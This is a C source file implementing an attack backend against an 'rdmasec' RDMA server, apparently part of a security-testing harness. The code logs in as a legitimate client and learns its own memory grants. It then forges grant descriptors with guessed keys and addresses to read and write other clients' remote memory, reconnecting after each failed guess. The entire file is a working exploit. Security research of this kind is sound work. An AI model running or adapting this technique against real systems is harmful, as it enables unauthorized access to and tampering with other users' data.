/* SPDX-License-Identifier: MIT */
/*
 * mem-access against rdmasec-server: the attacker is a second authenticated
 * client. It learns its own grants (the window key and address the library
 * keeps in struct rsec_remote_grant) by asking the server for a WRITE grant
 * on each of two connections, then makes each guess as an rsec_read() through a grant descriptor
 * it forged with the guessed key and address. A refused guess breaks the
 * attacker's own connection (RSEC_E_QP), so each guess needs a new one: a
 * full TLS handshake.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "app_proto.h"
#include "cli.h"
#include "common/attack.h"
#include "memacc.h"
#include "rdmasec.h"

struct rsec_atk {
	const struct memacc_cfg *cfg;
	struct rsec_ctx *ctx;
	struct rsec_conn *conn;
	struct rsec_remote_grant own;
	uint8_t *buf;
};

static void rsec_atk_close(void *state)
{
	struct rsec_atk *a = state;
	if (!a)
		return;
	rsec_conn_free(a->conn);
	rsec_ctx_free(a->ctx);
	free(a->buf);
	free(a);
}

static int rsec_atk_open(const struct memacc_cfg *cfg, void **state)
{
	struct rsec_atk *a = calloc(1, sizeof(*a));
	char err[256] = "";
	struct cli_certs files;
	int rc;

	if (!a || !(a->buf = calloc(1, MEMACC_READ_MAX)))
		goto fail;
	a->cfg = cfg;
	if (!cfg->certs) {
		fprintf(stderr, "%s mem-access: --victim rdmasec needs --certs DIR\n", PROG);
		goto fail;
	}
	if (!cli_certs_paths(&files, cfg->certs, cfg->identity)) {
		fprintf(stderr, "%s mem-access: --certs path too long\n", PROG);
		goto fail;
	}
	struct rsec_ctx_attr attr = { .local_addr = cfg->source, .ca_file = files.ca, .cert_file = files.cert,
				      .key_file = files.key, .handshake_timeout_ms = cfg->timeout_ms };
	if ((rc = rsec_ctx_new(&attr, &a->ctx, err, sizeof(err))) < 0) {
		fprintf(stderr, "%s mem-access: rdmasec context: %s (%s)\n", PROG, err, rsec_strerror(rc));
		goto fail;
	}
	*state = a;
	return 0;
fail:
	rsec_atk_close(a);
	return -1;
}

static int reconnect(struct rsec_atk *a, char status[static 96])
{
	rsec_conn_free(a->conn);
	a->conn = NULL;
	int rc = rsec_connect(a->ctx, a->cfg->dst, a->cfg->port, NULL, a->cfg->timeout_ms, &a->conn);
	if (rc < 0) {
		snprintf(status, 96, "connect: %s", rsec_strerror(rc));
		a->conn = NULL;
		return -1;
	}
	return 0;
}

/* Ask the server for a WRITE grant of len bytes, as rdmasec-client's `write` does. */
static int own_grant(struct rsec_atk *a, uint64_t len, struct rsec_remote_grant *g)
{
	struct app_msg m = { .op = APP_WRITE_REQ, .len = len };
	uint8_t buf[APP_MSG_FIXED_MAX + 64];
	size_t n = app_encode(&m, buf, sizeof(buf));
	const char *why;

	if (!n || rsec_send(a->conn, buf, n, a->cfg->timeout_ms) < 0 ||
	    rsec_recv(a->conn, buf, sizeof(buf), &n, a->cfg->timeout_ms) < 0)
		goto fail;
	if (!app_decode(buf, n, &m, &why) || m.op != APP_WRITE_GRANTED) {
		fprintf(stderr, "%s mem-access: the server granted nothing (%s)\n", PROG,
			m.op == APP_ERROR ? m.text : "unexpected reply");
		return -1;
	}
	if (rsec_grant_wait(a->conn, m.tag, g, a->cfg->timeout_ms) < 0)
		goto fail;
	return 0;
fail:
	fprintf(stderr, "%s mem-access: asking for a grant failed: %s\n", PROG, rsec_conn_error(a->conn));
	return -1;
}

static int rsec_atk_calibrate(void *state, struct memacc_own own[2])
{
	struct rsec_atk *a = state;
	struct rsec_remote_grant g[2];
	char status[96];

	/* One connection each: the server keeps one buffer per session, so two grants of one
	 * connection share an address and tell nothing of the allocator's stride. */
	for (int i = 0; i < 2; i++) {
		if (reconnect(a, status)) {
			fprintf(stderr, "%s mem-access: %s\n", PROG, status);
			return -1;
		}
		if (own_grant(a, MEMACC_READ_MAX, &g[i]))
			return -1;
		own[i].rkey = g[i].rkey;
		own[i].addr = g[i].addr;
		own[i].len = g[i].len;
	}
	a->own = g[1];
	return 0;
}

static int rsec_atk_guess(void *state, struct memacc_try *t, size_t n)
{
	struct rsec_atk *a = state;

	for (size_t i = 0; i < n; i++) {
		t[i].v = MEMACC_NOANSWER;
		if (!a->conn && reconnect(a, t[i].status))
			continue;
		/* A forged descriptor: the library sends whatever key and address it holds. */
		struct rsec_remote_grant g = a->own;
		g.rkey = t[i].c.rkey;
		g.addr = t[i].c.addr;
		g.len = a->cfg->read_len;
		g.access = RSEC_ACCESS_READ | RSEC_ACCESS_WRITE;
		int rc = rsec_read(a->conn, &g, 0, a->buf, a->cfg->read_len, a->cfg->timeout_ms);
		if (rc == 0) {
			t[i].v = MEMACC_HIT;
			memcpy(t[i].data, a->buf, a->cfg->read_len);
			snprintf(t[i].status, sizeof(t[i].status), "success");
			continue;
		}
		snprintf(t[i].status, sizeof(t[i].status), "%s (%s)", rsec_strerror(rc), rsec_conn_error(a->conn));
		if (rc == RSEC_E_QP)
			t[i].v = MEMACC_MISS;
		rsec_conn_free(a->conn);
		a->conn = NULL;
	}
	return 0;
}

static int rsec_atk_write(void *state, uint32_t rkey, uint64_t addr, const uint8_t *buf, size_t len,
			  uint8_t *back, char status[static 96])
{
	struct rsec_atk *a = state;
	struct rsec_remote_grant g = a->own;

	if (!a->conn && reconnect(a, status))
		return -1;
	g.rkey = rkey, g.addr = addr, g.len = len, g.access = RSEC_ACCESS_READ | RSEC_ACCESS_WRITE;
	int rc = rsec_write(a->conn, &g, 0, buf, len, a->cfg->timeout_ms);
	if (rc == 0)
		rc = rsec_read(a->conn, &g, 0, back, len, a->cfg->timeout_ms);
	snprintf(status, 96, "%s", rc == 0 ? "success" : rsec_strerror(rc));
	if (rc < 0) {
		rsec_conn_free(a->conn);
		a->conn = NULL;
	}
	return rc == 0 ? 0 : rc == RSEC_E_QP ? 1 : -1;
}

const struct memacc_backend memacc_rdmasec_backend = {
	.name = "rdmasec",
	.batch_max = 1,
	.open = rsec_atk_open,
	.calibrate = rsec_atk_calibrate,
	.guess = rsec_atk_guess,
	.write = rsec_atk_write,
	.close = rsec_atk_close,
};
